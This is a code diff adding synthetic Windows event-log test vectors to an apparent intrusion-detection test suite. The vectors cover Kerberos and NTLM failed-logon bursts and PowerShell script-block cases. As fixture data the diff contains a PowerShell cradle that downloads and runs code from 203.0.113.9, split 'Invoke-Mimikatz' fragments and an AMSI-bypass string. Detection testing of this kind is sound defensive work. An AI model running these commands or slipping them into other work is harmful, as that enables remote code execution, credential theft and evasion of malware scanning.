@@ -28,6 +28,21 @@ const failed = (d: Drawing, n: number, ip: string, gapMs = 60_000, more: Partial
     n,
     gapMs,
   );
+/** The same as a domain controller tells it: by Kerberos, or by NTLM, which names a workstation. */
+const refused = (d: Drawing, n: number, gapMs: number, more: Partial<DrawnRow>, offsetMs = 0): Drawing => {
+  for (let i = 0; i < n; i++)
+    windows(d, '08:40', '4771 Kerberos pre-authentication failed', {
+      ...{ kind: 'logon', outcome: 'failure', code: '0x18', host: 'DC01.firm.example' },
+      ...{ time: d.at('08:40') + i * gapMs + offsetMs },
+      ...more,
+    });
+  return d;
+};
+const NTLM: Partial<DrawnRow> = {
+  operation: '4776 Credentials validated by NTLM',
+  code: '0xc000006a',
+  device: '\\\\KALI',
+};
 const logon = (d: Drawing, clock: string, ip: string, more: Partial<DrawnRow> = {}): Drawing =>
   windows(d, clock, '4624 Logon', { kind: 'logon', ip, logonType: '10', ...more });
 const program = (
@@ -53,6 +68,17 @@ const task = (d: Drawing, content: string, more: Partial<DrawnRow> = {}): Drawin
     target: '\\Updater',
     parameters: { TaskContent: content },
     ...more,
+  });
+const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";
+const script = (d: Drawing, clock: string, text: string, more: Record<string, string> = {}): Drawing =>
+  windows(d, clock, '4104 PowerShell script block', {
+    kind: 'process',
+    parameters: { ScriptBlockText: text, ScriptBlockId: 'b1', ...more },
+  });
+const logged = (d: Drawing, clock: string, payload: string, begun: string): Drawing =>
+  windows(d, clock, '4103 PowerShell command run', {
+    kind: 'process',
+    parameters: { Payload: payload, ContextInfo: `        Host Application = ${begun}\r\n` },
   });
 const SID = 'S-1-5-21-1-2-3-1107';
 const madeAdmin = (d: Drawing, group: string, at = '09:21', by = 'cfo'): Drawing =>
@@ -84,10 +110,85 @@ export const endpoint: Record<string, Vectors> = {
         severity: 'medium',
       },
       { name: 'nobody got in', draw: (p) => failed(home(p), 12, A.ip), count: 12, severity: 'low' },
+      {
+        name: 'as a domain controller tells it by Kerberos, by whoever then prompts',
+        draw: (p) => refused(bombed(p), 10, 60_000, { ip: A.ip }),
+        count: 10,
+        findings: 1,
+        severity: 'medium',
+      },
+      {
+        name: 'five at the host, and five others at a domain controller',
+        draw: (p) => refused(failed(home(p), 5, A.ip), 5, 60_000, { ip: A.ip }, 1_001),
+        count: 10,
+        findings: 1,
+      },
+      {
+        name: 'of each the host, Kerberos and NTLM at two domain controllers tell within a second: they count once',
+        draw: (p) => {
+          const d = failed(home(p), 10, A.ip, 20_000, { device: 'KALI' });
+          refused(d, 10, 20_000, { ip: A.ip }, 400);
+          refused(d, 10, 20_000, NTLM, 1_000);
+          return refused(d, 10, 20_000, { ...NTLM, host: 'DC02.firm.example' }, 900);
+        },
+        count: 10,
+        findings: 1,
+      },
+      {
+        name: 'by NTLM alone, from a workstation nobody logged on from',
+        draw: (p) => refused(home(p), 10, 60_000, NTLM),
+        count: 10,
+        findings: 1,
+        severity: 'low',
+      },
+      {
+        name: 'by NTLM, from a workstation that one failed logon gives an address',
+        draw: (p) => refused(failed(bombed(p), 1, A.ip, 0, { device: 'kali' }), 9, 60_000, NTLM, 5_000),
+        count: 10,
+        findings: 1,
+        severity: 'medium',
+      },
+      {
+        name: 'by NTLM, for an account that is not there',
+        draw: (p) => refused(home(p), 10, 60_000, { ...NTLM, code: '0xc0000064', user: 'cfo' }),
+        count: 10,
+      },
     ],
     not: [
       { name: 'nine', draw: (p) => failed(bombed(p), 9, A.ip) },
       { name: 'over more than ten minutes', draw: (p) => failed(bombed(p), 10, A.ip, 66_667) },
+      {
+        name: 'five attempts of which the host and a domain controller tell',
+        draw: (p) => refused(failed(home(p), 5, A.ip), 5, 60_000, { ip: A.ip }, 1_000),
+      },
+      {
+        name: 'five of which NTLM tells without the workstation',
+        draw: (p) => {
+          const d = refused(failed(home(p), 5, A.ip), 5, 60_000, { ...NTLM, device: '' }, 300);
+          return refused(d, 5, 60_000, { ...NTLM, device: '' }, 30_000);
+        },
+      },
+      { name: 'Kerberos from inside', draw: (p) => refused(home(p), 40, 1_000, { ip: '10.1.2.3' }) },
+      {
+        name: 'Kerberos for an account that is locked',
+        draw: (p) => refused(home(p), 40, 1_000, { ip: A.ip, code: '0x12' }),
+      },
+      {
+        name: 'NTLM for an account that is disabled',
+        draw: (p) => refused(home(p), 40, 1_000, { ...NTLM, code: '0xc0000072' }),
+      },
+      {
+        name: 'NTLM from a workstation somebody logged on from',
+        draw: (p) =>
+          logon(refused(home(p), 40, 1_000, { ...NTLM, device: 'WS07' }), '15:00', '10.1.2.3', {
+            user: 'colleague',
+            device: 'ws07.firm.example',
+          }),
+      },
+      {
+        name: 'NTLM from a computer whose log is here',
+        draw: (p) => refused(failed(home(p), 1, A.ip), 40, 1_000, { ...NTLM, device: 'WS01' }),
+      },
       { name: 'an address inside', draw: (p) => failed(home(p), 40, '10.1.2.3') },
       { name: 'the user’s own address', draw: (p) => failed(home(p), 40, H.ip) },
       {
@@ -178,6 +279,49 @@ export const endpoint: Record<string, Vectors> = {
       },
       { name: 'nobody got in', draw: (p) => program(home(p), '09:20', POWERSHELL, encoded), severity: 'low' },
       {
+        name: 'a script that fetches code and runs it, on the host the intruder logged on to',
+        draw: (p) => script(logon(bombed(p), '09:15', A.ip), '09:20', CRADLE),
+        findings: 1,
+        count: 1,
+        severity: 'high',
+      },
+      { name: 'the same, nobody got in', draw: (p) => script(home(p), '09:20', CRADLE), severity: 'low' },
+      {
+        name: 'a script that is telling only when its parts are put together',
+        draw: (p) =>
+          script(
+            script(home(p), '09:20', '-Mimikatz', { MessageNumber: '2', MessageTotal: '2' }),
+            '09:20',
+            'Invoke',
+            { MessageNumber: '1', MessageTotal: '2' },
+          ),
+        findings: 1,
+        count: 1,
+      },
+      {
+        name: 'an encoded command in a script',
+        draw: (p) => script(home(p), '09:20', `if (1) {\n  ${encoded}\n}`),
+      },
+      {
+        name: 'a logged command that turns off the scan for malware',
+        draw: (p) => logged(home(p), '09:20', 'CommandInvocation(Out-Null): [x]::amsiInitFailed', ''),
+      },
+      {
+        name: 'a telling command line, not encoded',
+        draw: (p) => program(home(p), '09:20', POWERSHELL, `powershell -c "${CRADLE}"`),
+      },
+      {
+        name: 'one encoded command of which three logs tell, and every command of it again',
+        draw: (p) => {
+          const d = program(home(p), '09:20', POWERSHELL, encoded);
+          for (const clock of ['09:20:01', '09:20:02', '09:50', '15:00'])
+            logged(d, clock, 'Get-Date', encoded);
+          return program(d, '09:20', POWERSHELL, encoded, { operation: '1 Process created (Sysmon)' });
+        },
+        findings: 1,
+        count: 1,
+      },
+      {
         name: 'a task out of a folder anybody may write to',
         draw: (p) => task(home(p), '<Exec><Command>C:\\Users\\Public\\u.exe</Command></Exec>'),
       },
@@ -239,6 +383,33 @@ export const endpoint: Record<string, Vectors> = {
             POWERSHELL,
             'powershell.exe -ep bypass -File C:\\Tools\\aVeryLongScriptNameIndeed.ps1',
           ),
+      },
+      {
+        name: 'a script that fetches a file',
+        draw: (p) => script(bombed(p), '09:20', 'iwr $u -OutFile a.msi'),
+      },
+      {
+        name: 'a script of which the telling part lies between parts that no log holds',
+        draw: (p) =>
+          script(
+            script(bombed(p), '09:20', 'Invoke', { MessageNumber: '1', MessageTotal: '3' }),
+            '09:20',
+            '-Mimikatz',
+            { MessageNumber: '3', MessageTotal: '3' },
+          ),
+      },
+      {
+        name: 'a logged command of the day',
+        draw: (p) => logged(bombed(p), '09:20', 'CommandInvocation(Get-Date)', 'powershell.exe -NoLogo'),
+      },
+      {
+        name: 'the machine’s own script',
+        draw: (p) =>
+          windows(bombed(p), '09:20', '4104 PowerShell script block', {
+            kind: 'process',
+            parameters: { ScriptBlockText: CRADLE },
+            userType: 'system',
+          }),
       },
       {
         name: 'rundll32 with a library',
